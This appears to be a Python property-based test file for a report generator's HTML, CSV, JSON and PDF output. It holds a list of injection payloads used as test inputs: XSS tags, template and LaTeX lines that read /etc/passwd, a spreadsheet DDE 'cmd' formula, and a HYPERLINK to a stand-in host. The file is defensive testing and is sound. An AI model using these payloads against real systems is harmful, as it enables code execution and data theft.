"""Hostile words in every place of a result change no page: they stay words.

Names of roles, fields, tables and files come from the data, and somebody may have put markup, formulas,
template code or marks of writing direction there. Each example is a set of results whose every word is
hostile and carries a canary; its *twin* has the same shape and harmless words.

* Pages: the tags and attributes of the hostile page are those of its twin, one by one, and no canary stands
  in a style, a comment, a link or an identifier. Controls and marks of direction are replaced, not passed on.
* CSV: the cells read back as many as were written, and none is a formula: not one that begins, after blanks
  and signs that do not show, with ``=``, ``+``, ``-`` or ``@`` in any width, nor with a tab or a carriage
  return. Text in which a semicolon, a tab or a line break comes before such a sign counts as one too, because
  spreadsheets of other languages begin a cell there. A lone sign is no formula; numbers stay numbers.
* ``results.json`` is read back to the same words.

100 examples of each run by default (about 10 s; 5 for the PDF), 1,000 under ``slow`` (50 for the PDF). Twenty
reports are opened in Chromium under ``slow``: no script runs, no dialogue opens, nothing is fetched.
"""

from __future__ import annotations

import csv
import functools
import importlib.util
import io
import json
import re
import shutil
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from otrack_risk.display import tables
from otrack_risk.report import pack, page

CANARY = "Qx7Kanari"
csv.field_size_limit(2**27)  # of the reader below; the standard one ends at 128 kB
ATTACKS = (
    "<script>window.ran=1;document.title='{c}'</script>",
    '"><img src=x onerror="window.ran=1" alt=\'{c}',
    "'><svg onload=window.ran=1>{c}</svg>",
    "</title></style></script><body onload=window.ran=1>{c}",
    "--><!-- {c} -->",
    "<a href='javascript:window.ran=1'>{c}</a>",
    "]]><![CDATA[{c}",
    "&lt;script&gt;{c}&#60;b&#62;",
    "{{{{ {c}.__class__.__mro__ }}}}",
    "{{% include '/etc/passwd' %}}{c}",
    "{{#- {c} -#}}",
    '#import "{c}.typ": *',
    '#read("/etc/passwd") {c}',
    "#panic[{c}]",
    "$ #{c} $ \\ *_`@{c}<label>",
    '=HYPERLINK("http://canary.example/{c}","{c}")',
    "=cmd|' /C calc'!{c}",
    "+1+{c}",
    "-1-{c}",
    "@SUM({c})",
    "\t=1+{c}",
    "\r=1+{c}",
    "  =1+{c}",
    "\u00a0\ufeff\u200b=1+{c}",
    "\uff1d1+{c}",
    "\uff20SUM({c})",
    "a;=1+{c}",
    "a\n=1+{c}",
    'a,"=1+{c}"',
    "[{c}](javascript:alert(1)) ![x](http://canary.example/x)",
    "| {c} | |\n|---|---|",
    "# {c}\n```\n---",
    "\\input{{/etc/passwd}}\\write18{{{c}}}",
    "$$\\href{{javascript:alert(1)}}{{{c}}}$$",
    "\u202e{c}\u202c\u2066\u2069\u200f",
    "\x00{c}\x1b[31m\x07\x08",
    "%s%n%x {c} %(x)s ${{{c}}} `{c}`",
    "../../{c}\\..\\CON:|?*",
    "{c}\u0301\u0301\u0301\U0001f9d2\U000e0001",
)
UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
attack = st.sampled_from(ATTACKS).map(lambda text: text.format(c=CANARY))
words = st.one_of(
    attack,
    st.tuples(attack, attack).map("".join),
    st.tuples(st.text(max_size=8), st.just(CANARY), st.text(max_size=8)).map("".join),
)
huge = attack.map(lambda text: (text + "\u00e9<") * (2**20 // len(text)))  # a megabyte and more
SMALL = {"suppress_health_check": list(HealthCheck), "deadline": None, "derandomize": True, "database": None}


@st.composite
def reports(draw: st.DrawFn, longest: st.SearchStrategy[str] | None = None) -> list[list[str]]:
    """For each of one or two results: sentence, figure, number, its words, two headers, then rows of two cells.

    With ``longest``, one word in one of ten reports is such a word.
    """
    shapes = draw(st.lists(st.integers(1, 3), min_size=1, max_size=2))
    made = [draw(st.lists(words, min_size=6 + 2 * rows, max_size=6 + 2 * rows)) for rows in shapes]
    if longest is not None and draw(st.integers(0, 9)) == 0:
        made[0][draw(st.integers(0, len(made[0]) - 1))] = draw(longest)
    return made


def built(report: list[list[str]]) -> tuple[page.Page, page.About]:
    """The page and what it says of itself, with these words wherever data can put a word."""
    results = []
    for number, (sentence, drawn, headline, beside, *cells) in enumerate(report, start=1):
        first, second, *rest = cells
        table = {"columns": [first, second], "rows": [rest[at : at + 2] for at in range(0, len(rest), 2)]}
        payload = {
            "key": "people_exposed",
            "headline": [[headline, beside]],
            "sentence": sentence,
            "record": {first: second, "rows": rest},
            "table": table,
            "figure": f"<svg xmlns='http://www.w3.org/2000/svg'><title>{drawn}</title></svg>",
            "files": {},
        }
        results.append(page._shown("breach_impact", number, "How many?", payload))
    made = page.Page("breach_impact", "The page", tuple(page.Block(result=result) for result in results))
    inputs = ({"name": report[0][0], "rows": 3, "columns": 2, "skipped": 0, "sha256": report[0][1]},)
    about = page.About(
        title=report[0][0],
        line=report[0][1],
        synthetic=True,
        footer=(report[0][2],),
        inputs=inputs,
        notes=(report[0][3],),
    )
    return made, about


def drawn_pages(report: list[list[str]]) -> list[str]:
    made, about = built(report)
    questions = (("How many?", "people_exposed"),)
    return [
        page.render(made, [made], about),
        page.overview([made], about, questions, {report[0][0]: report[0][1]}),
    ]


class Tags(HTMLParser):
    """The tags of a page with the names of their attributes, and where a canary stands that is no text."""

    VOID = frozenset({"meta", "img", "br", "hr", "link", "input", "wbr", "col", "path", "rect"})
    SAID = frozenset({"alt", "title", "aria-label", "aria-describedby", "content"})  # read out, never run

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[object, ...]] = []
        self.open: list[str] = []
        self.misplaced: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, *(name for name, _ in attrs)))
        for name, value in attrs:
            if name.startswith("on") or (CANARY.lower() in (value or "").lower() and name not in self.SAID):
                self.misplaced.append(f"{tag} {name}")
            if name in ("href", "src") and not re.match(r"(data:image/|#|[\w.-]+\.\w+(#[\w-]*)?$)", value or ""):
                self.misplaced.append(f"{tag} {name} leads away")
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.misplaced.append(f"{tag} is closed out of turn")

    def handle_comment(self, data: str) -> None:
        self.seen.append(("comment",))
        if CANARY in data:
            self.misplaced.append("comment")

    def handle_data(self, data: str) -> None:
        if CANARY in data and self.open and self.open[-1] in ("style", "script", "template"):
            self.misplaced.append(self.open[-1])
        self.text.append(data)


def read(content: str) -> Tags:
    tags = Tags()
    tags.feed(content)
    tags.close()
    assert tags.open == []
    return tags


@functools.cache
def tags_of_twins(shape: tuple[int, ...]) -> list[list[tuple[object, ...]]]:
    """The tags of the pages of a report of this shape whose every word is harmless."""
    return [read(content).seen for content in drawn_pages([["word"] * length for length in shape])]


def check_pages(report: list[list[str]]) -> None:
    twins = tags_of_twins(tuple(map(len, report)))
    for hostile, expected in zip(drawn_pages(report), twins, strict=True):
        found = read(hostile)
        assert found.seen == expected
        assert found.misplaced == []
        assert hostile.encode("utf-8").decode("utf-8") == hostile


def check_marks(report: list[list[str]]) -> None:
    for content in drawn_pages(report):
        assert UNSEEN.search(content) is None


def is_formula(text: str) -> bool:
    """The slower twin of what is quoted: cut at every sign that begins a cell somewhere, strip, fold the width."""
    if len(text) < 2:
        return False
    if text[0] in "\t\r\n":
        return True
    for part in re.split("[;\t\r\n]", text):
        bare = part
        while bare and (bare[0].isspace() or unicodedata.category(bare[0]) in ("Cf", "Cc", "Zs")):
            bare = bare[1:]
        if bare and unicodedata.normalize("NFKC", bare[0]) in "=+-@":
            return True
    return False


def check_csv(report: list[list[str]]) -> None:
    for result in built(report)[0].results:
        columns, rows = result.table["columns"], [*result.table["rows"], [-3, 0.5]]
        written = tables.as_csv(columns, rows)
        assert "\x00" not in written
        cells = list(csv.reader(io.StringIO(written, newline="")))
        assert [len(line) for line in cells] == [2] * (len(rows) + 1)
        assert [cell for line in cells[:-1] for cell in line if is_formula(cell)] == []
        assert cells[-1] == ["-3", "0.5"]


def check_json(report: list[list[str]]) -> None:
    made, about = built(report)
    shown = made.results
    content = json.dumps(tables.plain(pack.results(shown, {}, about)), ensure_ascii=False, allow_nan=False)
    entries = json.loads(content.encode("utf-8"))["shown"]
    assert [entry["sentence"] for entry in entries] == [result.sentence for result in shown]
    assert [entry["record"] for entry in entries] == [result.record for result in shown]


@settings(max_examples=100, **SMALL)
@given(reports())
def test_a_hostile_word_adds_no_tag_to_a_page(report):
    check_pages(report)


def test_controls_and_marks_of_direction_are_replaced_on_a_page():
    check_marks([[text.format(c=CANARY) for text in ATTACKS[-6:]] + [CANARY] * 2])


def test_a_table_shows_no_control_and_no_mark_of_direction():
    texts = [text.format(c=CANARY) for text in ATTACKS]
    assert UNSEEN.search(tables.as_html(texts, [texts], texts[0])) is None
    assert UNSEEN.search(tables.as_csv(texts, [texts])) is None


@settings(max_examples=100, **SMALL)
@given(reports())
def test_no_cell_of_a_csv_is_a_formula(report):
    check_csv(report)


@settings(max_examples=100, **SMALL)
@given(reports())
def test_results_are_read_back_as_they_were(report):
    check_json(report)


def test_a_cell_of_a_megabyte_is_a_cell():
    report = [
        [
            (ATTACKS[number % len(ATTACKS)].format(c=CANARY) + "\u00e9<") * (30_000 if number > 5 else 1)
            for number in range(8)
        ]
    ]
    assert max(len(text.encode()) for text in report[0]) > 2**20
    check_pages(report)
    check_csv(report)
    check_json(report)


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1+1", "@x", "\t1", "\rx", "  =1", "\uff1d1", "\u200b@x", "a;=1", "a\n-1"]
)
def test_the_twin_knows_a_formula_and_the_csv_begins_it_with_an_apostrophe(text):
    assert is_formula(text)
    assert "'" in tables.as_csv([text], [])


def test_a_name_with_a_dash_or_a_sign_inside_stays_as_it_is():
    assert tables.as_csv(["pre-school", "a=b"], [["5 - 11", "-"]]) == "pre-school,a=b\n5 - 11,-\n"


@pytest.mark.slow
@settings(max_examples=1000, **SMALL)
@given(reports(huge))
def test_a_thousand_hostile_reports_change_no_page_no_table_and_no_json(report):
    check_pages(report)
    check_csv(report)
    check_json(report)


def check_pdf(report: list[list[str]]) -> None:
    from pypdf import PdfReader

    from otrack_risk.report.pdf import pdf

    made, about = built(report)
    document = {"schema": "otrack-risk/assess/1", "tool": {"version": "0"}, "input": [], "parameters": {}, "notes": []}
    content = pdf([made], about, document, "0" * 64)
    assert content.startswith(b"%PDF-")
    for name in (b"/JavaScript", b"/JS ", b"/Launch", b"/SubmitForm", b"/EmbeddedFile", b"/OpenAction"):
        assert name not in content
    read_back = PdfReader(io.BytesIO(content))
    assert len(read_back.pages) >= 1
    links = [
        str(note.get_object().get("/A", {}).get("/URI", ""))
        for one in read_back.pages
        for note in one.get("/Annots") or ()
    ]
    assert [link for link in links if CANARY in link or "canary.example" in link] == []


needs_pdf = pytest.mark.skipif(
    importlib.util.find_spec("otrack_risk.report.pdf") is None, reason="there is no PDF of a report in this version"
)


@needs_pdf
@settings(max_examples=5, **SMALL)
@given(reports())
def test_a_hostile_word_runs_nothing_in_the_pdf(report):
    check_pdf(report)


@needs_pdf
@pytest.mark.slow
@settings(max_examples=50, **SMALL)
@given(reports())
def test_fifty_hostile_reports_run_nothing_in_the_pdf(report):
    check_pdf(report)


@pytest.mark.slow
@pytest.mark.needs("chromium")
def test_no_script_of_twenty_hostile_reports_runs_in_a_browser(tmp_path):
    sync_api = pytest.importorskip("playwright.sync_api")
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    asked: list[str] = []
    dialogues: list[str] = []
    ran: list[object] = []
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=program, args=["--no-sandbox"])
        tab = browser.new_page()
        tab.on("request", lambda request: asked.append(request.url))
        tab.on("dialog", lambda dialogue: (dialogues.append(dialogue.message), dialogue.dismiss()))
        for number in range(20):
            some = [ATTACKS[(number + 2 * step) % len(ATTACKS)].format(c=CANARY) for step in range(len(ATTACKS))]
            report = [some[:12], some[12:24]]
            for name, content in zip(("breach_impact.html", "index.html"), drawn_pages(report), strict=True):
                file = tmp_path / str(number) / name
                file.parent.mkdir(exist_ok=True)
                file.write_text(content, encoding="utf-8")
                tab.goto(file.as_uri())
                ran.append(tab.evaluate("() => window.ran ?? null"))
                assert CANARY in tab.inner_text("body")
        browser.close()
    assert set(ran) == {None}
    assert dialogues == []
    assert [url for url in asked if not url.startswith(("file://", "data:image/"))] == []
    assert {url.rsplit("/", 1)[1] for url in asked if url.startswith("file://")} == {"breach_impact.html", "index.html"}
